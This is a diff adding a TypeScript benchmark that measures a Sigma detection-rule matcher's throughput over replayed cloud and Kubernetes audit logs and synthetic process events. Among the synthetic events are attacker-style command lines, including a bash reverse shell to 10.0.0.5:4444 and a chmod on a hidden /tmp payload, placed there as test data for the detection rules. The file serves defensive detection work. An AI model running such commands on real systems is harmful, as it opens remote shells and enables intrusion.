@@ -1,0 +1,142 @@
+/**
+ * Sigma matcher throughput, events per CPU second (one thread, synchronous `match`).
+ * Rule sets: every SigmaHQ corpus rule plus Vigil's pack ("all"), and the first 100 of them in path
+ * order ("100"); each source only evaluates the rules routed to it (reported as `*_routed_rules`).
+ * Streams: CloudTrail = the Stratus Red Team detonation logs replayed; k8s audit = the Falco traces
+ * replayed; process = synthetic process_creation events (common admin commands with some attacker
+ * ones mixed in); no-match = CloudTrail and k8s events no rule can match (data-plane reads).
+ */
+import { readdirSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Logger } from 'pino';
+import type { SourceKind } from '../model/source';
+import { CompiledRuleSet, loadRuleSet } from '../sigma';
+import { readEventFile } from '../sigma/event-file';
+import { projectRoot } from '../project-root';
+
+const EVENTS_PER_RUN = 400_000;
+
+async function eventsIn(dir: string): Promise<unknown[]> {
+  const files = readdirSync(dir).filter((f) => f.endsWith('.json')).sort();
+  const all: unknown[] = [];
+  for (const f of files) all.push(...(await readEventFile(join(dir, f))).events);
+  return all;
+}
+
+/** Deterministic process_creation events in the field names SigmaHQ Linux rules use. */
+function processEvents(): unknown[] {
+  const commands: [string, string, string][] = [
+    ['/usr/bin/ls', 'ls -la /var/log', '/usr/bin/bash'],
+    ['/usr/bin/grep', 'grep -r error /var/log/syslog', '/usr/bin/bash'],
+    ['/usr/bin/python3', 'python3 /opt/app/manage.py migrate', '/usr/bin/bash'],
+    ['/usr/bin/systemctl', 'systemctl status nginx', '/usr/bin/sudo'],
+    ['/usr/bin/cat', 'cat /etc/os-release', '/usr/bin/bash'],
+    ['/usr/bin/git', 'git pull --rebase', '/usr/bin/zsh'],
+    ['/usr/sbin/sshd', '/usr/sbin/sshd -D -R', '/usr/sbin/sshd'],
+    ['/usr/bin/curl', 'curl -s https://example.com/health', '/usr/bin/bash'],
+    ['/usr/bin/node', 'node /srv/api/server.js', '/usr/bin/bash'],
+    ['/usr/bin/tar', 'tar czf /backup/etc.tgz /etc', '/usr/sbin/cron'],
+    ['/usr/bin/bash', 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1', '/usr/bin/python3'],
+    ['/usr/bin/chmod', 'chmod +x /tmp/.x/payload', '/usr/bin/bash'],
+    ['/usr/bin/base64', 'base64 -d /tmp/blob', '/usr/bin/sh'],
+    ['/usr/bin/crontab', 'crontab -l', '/usr/bin/bash'],
+    ['/usr/bin/find', 'find / -perm -4000 -type f', '/usr/bin/bash'],
+    ['/usr/bin/id', 'id', '/usr/bin/bash'],
+  ];
+  return commands.flatMap(([Image, CommandLine, ParentImage], i) =>
+    ['root', 'www-data', 'alice'].map((User, j) => ({
+      Image,
+      CommandLine,
+      ParentImage,
+      ParentCommandLine: ParentImage,
+      User,
+      CurrentDirectory: '/home/alice',
+      ProcessId: 1000 + i * 3 + j,
+      ParentProcessId: 900 + i,
+      Hostname: `node-${j}`,
+    })),
+  );
+}
+
+function noMatchEvents(): { source: SourceKind; events: unknown[] }[] {
+  const cloudtrail = Array.from({ length: 50 }, (_, i) => ({
+    eventVersion: '1.08',
+    eventSource: 'dynamodb.amazonaws.com',
+    eventName: i % 2 ? 'PutItem' : 'UpdateItem',
+    awsRegion: 'eu-west-1',
+    eventID: `nomatch-${i}`,
+    sourceIPAddress: '10.0.0.1',
+    userAgent: 'aws-sdk-go-v2/1.24.0',
+    userIdentity: { type: 'AssumedRole', arn: `arn:aws:sts::123456789012:assumed-role/app/i-${i}` },
+    requestParameters: { tableName: 'orders' },
+  }));
+  const k8s = Array.from({ length: 50 }, (_, i) => ({
+    kind: 'Event',
+    apiVersion: 'audit.k8s.io/v1',
+    level: 'Metadata',
+    auditID: `nomatch-${i}`,
+    stage: 'ResponseComplete',
+    requestURI: `/api/v1/namespaces/default/configmaps/app-${i}`,
+    verb: 'get',
+    user: { username: 'system:serviceaccount:default:app', groups: ['system:serviceaccounts'] },
+    sourceIPs: ['10.0.0.2'],
+    userAgent: 'app/1.0',
+    objectRef: { resource: 'configmaps', namespace: 'default', name: `app-${i}`, apiVersion: 'v1' },
+    responseStatus: { metadata: {}, code: 200 },
+  }));
+  return [
+    { source: 'cloudtrail', events: cloudtrail },
+    { source: 'k8s_audit', events: k8s },
+  ];
+}
+
+/**
+ * Events per CPU second of `match` over `events` replayed to EVENTS_PER_RUN: CPU time (not wall
+ * time) so other processes on the machine do not distort the per-core figure; best of 3 runs
+ * after a warm-up pass.
+ */
+function throughput(ruleSet: CompiledRuleSet, source: SourceKind, events: unknown[]): { rate: number; hits: number } {
+  for (let i = 0; i < 50_000; i++) ruleSet.match(events[i % events.length], source);
+  let best = 0;
+  let hits = 0;
+  for (let run = 0; run < 3; run++) {
+    hits = 0;
+    const start = process.cpuUsage();
+    for (let i = 0; i < EVENTS_PER_RUN; i++) hits += ruleSet.match(events[i % events.length], source).length;
+    const used = process.cpuUsage(start);
+    best = Math.max(best, EVENTS_PER_RUN / ((used.user + used.system) / 1e6));
+  }
+  return { rate: Math.round(best), hits };
+}
+
+export async function run(logger: Logger): Promise<Record<string, number | string>> {
+  const root = projectRoot;
+  const corpus = join(root, '..', 'shared', 'corpus');
+  const placeholdersFile = join(root, 'rules', 'sigma-config', 'placeholders.yml');
+  const { ruleSet: all, errors } = await loadRuleSet([join(corpus, 'sigmahq'), join(root, 'rules')], { placeholdersFile, logger });
+  if (errors.length > 0) logger.warn({ errors: errors.map((e) => e.message) }, 'rule load problems (benchmark continues with the rules that loaded)');
+  const first100 = new CompiledRuleSet(`${all.version}-100`, all.rules.slice(0, 100), []);
+
+  const streams: { name: string; source: SourceKind; events: unknown[] }[] = [
+    { name: 'cloudtrail', source: 'cloudtrail', events: await eventsIn(join(corpus, 'stratus-red-team', 'docs', 'detonation-logs')) },
+    { name: 'k8s_audit', source: 'k8s_audit', events: await eventsIn(join(corpus, 'falco-k8s-audit', 'test', 'trace_files', 'k8s_audit')) },
+    { name: 'process', source: 'process', events: processEvents() },
+    ...noMatchEvents().map((s) => ({ name: `nomatch_${s.source}`, ...s })),
+  ];
+
+  const figures: Record<string, number | string> = { sigma_rules_loaded: all.rules.length, sigma_events_per_run: EVENTS_PER_RUN };
+  for (const s of streams) {
+    for (const [label, ruleSet] of [['all', all], ['100', first100]] as const) {
+      const { rate, hits } = throughput(ruleSet, s.source, s.events);
+      const stats = ruleSet.indexStats(s.source);
+      figures[`sigma_${s.name}_${label}_rules_events_per_s`] = rate;
+      figures[`sigma_${s.name}_${label}_routed_rules`] = stats.rules;
+      if (label === 'all') {
+        figures[`sigma_${s.name}_indexed_rules`] = stats.indexed;
+        figures[`sigma_${s.name}_hits_per_1k_events`] = Math.round((hits / EVENTS_PER_RUN) * 1000);
+      }
+    }
+  }
+  logger.info(figures, 'sigma matcher benchmark');
+  return figures;
+}
